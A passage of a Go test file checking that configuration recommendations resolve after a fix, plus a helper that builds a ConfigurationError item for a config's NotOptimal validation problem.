	r := recs()
	if len(r) != 2 || r[0].State != event.RecommendationResolved || r[1].State != event.RecommendationResolved {
		t.Fatalf("after the fix, want both resolved: %+v", r)
	}
	if a := h.s.Active(); len(a) != 0 {
		t.Fatalf("still active: %+v", a)
	}
}

// notOptimalItem is the ConfigurationError item the engine reports for c's
// NotOptimal problem (the twinconfig problem, as twinconfig words it).
func notOptimalItem(t *testing.T, c twinconfig.Config) event.Item {
	t.Helper()
	for _, p := range c.Validate() {
		if p.Kind == event.NotOptimal {
			return &event.ConfigurationErrorPayload{ConfigurationName: p.Key, ErrorType: p.Kind, UsedConfiguration: p.Used, Message: p.Message}
		}
	}
	t.Fatal("configuration has no NotOptimal problem")
	return nil
}
